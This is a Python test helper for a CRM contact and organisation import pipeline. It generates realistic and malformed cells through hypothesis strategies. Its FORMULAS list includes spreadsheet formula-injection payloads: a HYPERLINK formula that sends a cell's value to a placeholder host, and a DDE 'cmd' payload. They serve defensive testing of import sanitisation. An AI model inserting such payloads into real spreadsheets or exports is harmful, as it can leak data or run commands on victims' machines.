"""Helpers of `test_columns.py`: the entities, the batch-vs-rows check, and hypothesis
strategies drawing realistic and hostile cells per kind of field."""

from __future__ import annotations

from collections import Counter
from typing import Any

import polars as pl
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from cible.people.models import Contact, Organisation
from cible.people.normalise import (
    CONTACT_BLANKS,
    CONTACT_SPECS,
    ORGANISATION_BLANKS,
    ORGANISATION_SPECS,
    derive_contact,
    derive_organisation,
)
from cible.quality.imports.columns import (
    NormalisedBatch,
    normalise_batch,
    normalise_row,
)
from cible.quality.imports.registry import ImportableEntity, ImportField

PROPERTY = settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)

ORGANISATION_LINKS = ("external_id", "owner_email")
CONTACT_LINKS = (
    "external_id",
    "organisation_external_id",
    "organisation_siren",
    "organisation_domain",
    "organisation_name",
    "owner_email",
)


def make_entity(name: str, model: Any, specs: Any, blanks: Any, derive: Any, links: Any) -> Any:
    fields = tuple(ImportField(n, n) for n in specs) + tuple(
        ImportField(n, n, link=True) for n in links
    )
    return ImportableEntity(name, name, model, fields, (), specs, blanks, derive)


ORGANISATIONS = make_entity(
    "organisations",
    Organisation,
    ORGANISATION_SPECS,
    ORGANISATION_BLANKS,
    derive_organisation,
    ORGANISATION_LINKS,
)
CONTACTS = make_entity(
    "contacts", Contact, CONTACT_SPECS, CONTACT_BLANKS, derive_contact, CONTACT_LINKS
)


def _typed(values: dict[str, Any]) -> dict[str, tuple[str, str]]:
    """Values with their exact type and representation (Decimal('1.50') is not Decimal('1.5'),
    HeadcountBand.B0 is not "0")."""
    return {name: (type(value).__name__, repr(value)) for name, value in values.items()}


def make_frame(columns: dict[str, list[str | None]]) -> pl.DataFrame:
    size = len(next(iter(columns.values())))
    data: dict[str, Any] = {
        name: pl.Series(name, v, dtype=pl.String) for name, v in columns.items()
    }
    data["_row"] = pl.Series("_row", range(1, size + 1), dtype=pl.Int64)
    return pl.DataFrame(data)


def assert_same_as_rows(
    entity: ImportableEntity, columns: dict[str, list[str | None]]
) -> NormalisedBatch:
    """Normalise `columns` (field name -> cells) as a batch and row by row: same values (types
    included), same errors, same change counts and samples."""
    frame = make_frame({f"Col {name}": cells for name, cells in columns.items()})
    mapping = {f"Col {name}": name for name in columns}
    batch = normalise_batch(entity, frame, mapping)
    assert batch.rows == list(range(1, frame.height + 1))
    changes: Counter[str] = Counter()
    samples: dict[str, tuple[str, str]] = {}
    for index in range(frame.height):
        row = {name: cells[index] for name, cells in columns.items()}
        values, errors, found = normalise_row(entity, row)
        assert _typed(batch.values[index]) == _typed(values), row
        assert batch.errors.get(index + 1, []) == errors, row
        if not errors:
            for change in found:
                changes[change.field] += 1
                after = "" if change.after is None else str(change.after)
                samples.setdefault(change.field, (change.before, after))
    assert batch.changes == changes
    assert batch.change_samples == samples
    return batch


# --------------------------------------------------------------------------- strategies

NOISE = st.sampled_from(
    ["", " ", "  ", "\u00a0", "\t", "\u202f", "\n", "\u200b", "\ufeff", "\x00", "\x1f", "\u2003"]
)


def noisy(inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    """`inner` with whitespace, invisible or control characters around it (often none)."""
    return st.tuples(NOISE, inner, NOISE).map("".join)


def cells(inner: st.SearchStrategy[str]) -> st.SearchStrategy[list[str | None]]:
    """A column: realistic values (some noisy), blanks and nulls, and arbitrary text."""
    cell = st.one_of(
        inner,
        inner,
        inner,
        noisy(inner),
        st.none(),
        st.sampled_from(["", " ", "\u00a0", "-", "N/A"]),
        st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=30),
        FORMULAS,
    )
    return st.lists(cell, min_size=1, max_size=25)


FORMULAS = st.sampled_from(
    [
        '=HYPERLINK("http://x.example/?q="&A1,"clic")',
        "=1+2",
        "=A1",
        "@SUM(A1:A3)",
        "+SUM(1,2)",
        "-A1*2",
        "+cmd|' /C calc'!A0",
        "-12",
        "-",
        "+33 1 23 45 67 89",
        "= 1",
        "@contact",
        "-B2B",
    ]
)

SEPARATORS = st.sampled_from(["", " ", ".", "-", "  ", " - ", "/", "\u00a0"])
PREFIXES = st.sampled_from(
    [
        "0",
        "0",
        "+33 ",
        "+33",
        "0033 ",
        "00 33 ",
        "+33 (0)",
        "+33 (0) ",
        "+330",
        "+ 33 ",
        "",
        "tel:0",
        "0033 (0)",
        "+33-",
        "+33.(0)",
        "0 ",
    ]
)


@st.composite
def french_phone(draw: Any) -> str:
    nsn = draw(st.from_regex(r"[1-9][0-9]{8}", fullmatch=True))
    if draw(st.booleans()):  # a realistic first digits: landline, mobile, overseas, premium
        lead = draw(st.sampled_from(["1", "2", "3", "4", "5", "6", "7", "8", "9", "590", "262"]))
        nsn = (lead + nsn)[:9]
    separator = draw(SEPARATORS)
    groups = [nsn[0]] + [nsn[i : i + 2] for i in range(1, 9, 2)]
    prefix = draw(PREFIXES)
    return prefix + separator.join(groups)


PHONES = st.one_of(
    french_phone(),
    st.sampled_from(
        [
            "01 23 45 67 89",
            "01.23.45.67.89",
            "+33 (0)1 23 45 67 89",
            "0033123456789",
            "+44 20 7946 0958",
            "+32 2 123 45 67",
            "+1 (415) 555-2671",
            "0590 12 34 56",
            "0696 12 34 56",
            "01 23 45 67 89 poste 12",
            "0123456789 x12",
            "01 23 45 67",
            "(01) 23 45 67 89",
            "+33 0 1 23 45 67 89",
            "06 12 34 56 78 / 06 98 76 54 32",
        ]
    ),
    st.from_regex(r"[+0-9 ().-]{1,22}", fullmatch=True),
)

LOCAL = st.text(alphabet="abcxyzABZ0189._+-'!#é", min_size=1, max_size=12)
LABEL = st.text(alphabet="abcxyzAB09-é", min_size=1, max_size=12)
TLD = st.sampled_from(
    ["fr", "com", "FR", "io", "test", "localhost", "c0m", "x", "xn--p1ai", "онлайн"]
)
HOSTS = st.builds(
    lambda labels, tld: ".".join([*labels, tld]), st.lists(LABEL, min_size=1, max_size=3), TLD
)


@st.composite
def email_address(draw: Any) -> str:
    return draw(LOCAL) + draw(st.sampled_from(["@", "@", "@@", "", " @ "])) + draw(HOSTS)


EMAILS = st.one_of(
    email_address(),
    st.sampled_from(
        [
            "Jean.Dupont@Example.FR",
            "jean@exemple.fr",
            "Jean Dupont <jean@example.fr>",
            "mailto:jean@example.fr",
            "jean..dupont@example.fr",
            "jean@example",
            "a" * 65 + "@example.fr",
            "jean@" + "b" * 64 + ".fr",
            "jean@xn--bcher-kva.com",
            "jean@ab--cd.fr",
            "jean@société.fr",
        ]
    ),
)


@st.composite
def web_address(draw: Any) -> str:
    scheme = draw(st.sampled_from(["", "", "http://", "https://", "HTTPS://", "ftp://", "//"]))
    www = draw(st.sampled_from(["", "www.", "WWW.", "www2."]))
    port = draw(st.sampled_from(["", "", ":8080", ":x"]))
    path = draw(st.text(alphabet="/aZ0-._~?#=& %é@:", max_size=12))
    return scheme + www + draw(HOSTS) + port + path + draw(st.sampled_from(["", "", "/", "."]))


WEBSITES = st.one_of(
    web_address(),
    st.sampled_from(
        ["www.acme.fr", "https://www.acme.fr/", "acme.fr", "jean@acme.fr", "localhost"]
    ),
)


@st.composite
def identifier(draw: Any, length: int) -> str:
    """A SIREN or SIRET, most often with a valid check digit (and a valid SIREN inside the
    SIRET), sometimes La Poste's, sometimes grouped with separators."""
    from stdnum import luhn

    siren = draw(st.from_regex(r"[0-9]{8}", fullmatch=True))
    siren += luhn.calc_check_digit(siren)
    if length == 14 and draw(st.integers(0, 5)) == 0:
        siren = "356000000"
    number = siren if length == 9 else siren + draw(st.from_regex(r"[0-9]{4}", fullmatch=True))
    if draw(st.integers(0, 3)) > 0:
        number += luhn.calc_check_digit(number)
    else:
        number += draw(st.sampled_from("0123456789"))
    if draw(st.booleans()):
        separator = draw(st.sampled_from([" ", ".", "-", "  ", "_"]))
        number = separator.join(number[i : i + 3] for i in range(0, len(number), 3))
    return number


def identifiers(length: int) -> st.SearchStrategy[str]:
    return st.one_of(
        identifier(length),
        identifier(length),
        st.sampled_from(["3.56E+08", "3,56E+08", "7.32829E+13", "356e6", "1.5", "ABC"]),
        st.from_regex(rf"[0-9]{{{length - 2},{length + 1}}}", fullmatch=True),
    )


NAMES = st.one_of(
    st.sampled_from(
        [
            "ACME SAS",
            "société générale",
            "acme conseil",
            "novatek 12 sas",
            "3m france",
            "b2b-services 2",
            "jean-pierre et fils",
            "L'Oréal",
            "jean-pierre",
            "DE LA FONTAINE",
            "o'neil",
            "Dupont",
            "ÉLODIE",
            "Ça Marche",
            "ßtraße gmbh",
            "ŒUVRES",
            "İstanbul",
            "Ǆemal",
            "x" * 254,
            "X" * 260,
        ]
    ),
    st.text(alphabet="abcXYZ éÉàçÇœŒß'’-–.&0\u00a0", min_size=1, max_size=40),
    st.text(alphabet="abz09 -", min_size=1, max_size=20),
    st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=40),
)

NUMBERS = st.one_of(
    st.from_regex(r"[+-]?[0-9]{1,7}", fullmatch=True),
    st.from_regex(r"[0-9 \u00a0']{1,10}([.,][0-9]{0,3})?( ?(€|EUR|\$))?", fullmatch=True),
    st.sampled_from(["1 234,56 €", "1,234.56", "1.234,56", "12e3", "٣", "99999999999999", "-5"]),
    st.from_regex(r"[0-9]{12,16}([.,][0-9]{1,3})?", fullmatch=True),
)

COUNTRIES = st.sampled_from(
    [
        "France",
        "fr",
        "FRA",
        "Allemagne",
        "germany",
        "Royaume-Uni",
        "UK",
        "Côte d'Ivoire",
        "atlantis",
        "Etats-Unis",
        "belgique",
        "BE",
        "Suisse",
        "ES",
    ]
)
POSTAL_CODES = st.one_of(
    st.from_regex(r"[0-9]{5}", fullmatch=True),
    st.sampled_from(["75008", "75 008", "20000", "20200", "97400", "98800", "1000", "SW1A 1AA"]),
)
NAF = st.sampled_from(["62.01Z", "6201z", "62", "70.22Z", "99.99Z", "A", "85.59A", "1.1"])
STATUSES = st.sampled_from(["prospect", "Prospect", "CUSTOMER", "Client", "suspect", "nope"])
BOOLEANS = st.sampled_from(["oui", "Non", "x", "1", "0", "true", "peut-être"])
DATES = st.sampled_from(["2026-01-15", "2026-01-15T10:00:00+02:00", "15/01/2026", "hier"])
LONG_TEXT = st.one_of(
    st.text(max_size=60),
    st.integers(9_995, 10_005).map(lambda size: "a" * size),
    st.sampled_from(["Ligne 1\nLigne 2\tTab", " \u00a0padded\u00a0 ", "bip\x07", "\r\nCRLF"]),
)

ORGANISATION_FIELDS: dict[str, st.SearchStrategy[str]] = {
    "legal_name": NAMES,
    "trade_name": NAMES,
    "siren": identifiers(9),
    "siret": identifiers(14),
    "vat_number": st.sampled_from(["FR40303265045", "FR 40 303 265 045", "DE123", "fr00"]),
    "website": WEBSITES,
    "domain": WEBSITES,
    "phone": PHONES,
    "street": NAMES,
    "postal_code": POSTAL_CODES,
    "city": NAMES,
    "region": st.sampled_from(["FR-IDF", "Bretagne", "x" * 41]),
    "country": COUNTRIES,
    "naf_code": NAF,
    "headcount": NUMBERS,
    "headcount_band": st.sampled_from(["10-49", "5000+", "1-9", "huge"]),
    "annual_revenue": NUMBERS,
    "currency": st.sampled_from(["EUR", "usd", "EURO"]),
    "sales_team_size": NUMBERS,
    "status": STATUSES,
    "tier": st.sampled_from(["gold", "Silver", "platinum"]),
    "source": st.sampled_from(["import", "Website", "salon"]),
    "description": LONG_TEXT,
    "last_verified_at": DATES,
}
CONTACT_FIELDS: dict[str, st.SearchStrategy[str]] = {
    "first_name": NAMES,
    "last_name": NAMES,
    "email": EMAILS,
    "secondary_email": EMAILS,
    "phone": PHONES,
    "mobile": PHONES,
    "job_title": NAMES,
    "function": st.sampled_from(["sales", "Marketing", "IT", "chef"]),
    "seniority": st.sampled_from(["manager", "Director / VP", "boss"]),
    "buying_role": st.sampled_from(["economic_buyer", "Decision maker", "PURCHASING", "sponsor"]),
    "language": st.sampled_from(["fr", "en-GB", "français"]),
    "linkedin_url": WEBSITES,
    "email_consent": st.sampled_from(["granted", "Withdrawn", "maybe"]),
    "email_opt_out": BOOLEANS,
    "phone_opt_out": BOOLEANS,
    "lifecycle_stage": st.sampled_from(["mql", "SQL", "lead"]),
    "source": st.sampled_from(["import", "Event or trade show", "salon"]),
    "has_left": BOOLEANS,
    "last_verified_at": DATES,
}
LINK_FIELDS: dict[str, st.SearchStrategy[str]] = {
    "external_id": NAMES,
    "owner_email": EMAILS,
    "organisation_external_id": NAMES,
    "organisation_siren": identifiers(9),
    "organisation_domain": WEBSITES,
    "organisation_name": NAMES,
}


@st.composite
def table(draw: Any, fields: dict[str, st.SearchStrategy[str]], names: list[str]) -> Any:
    size = draw(st.integers(1, 12))
    return {name: draw(st.lists(st.one_of(fields[name], st.none()), min_size=size,
                                max_size=size)) for name in names}  # fmt: skip
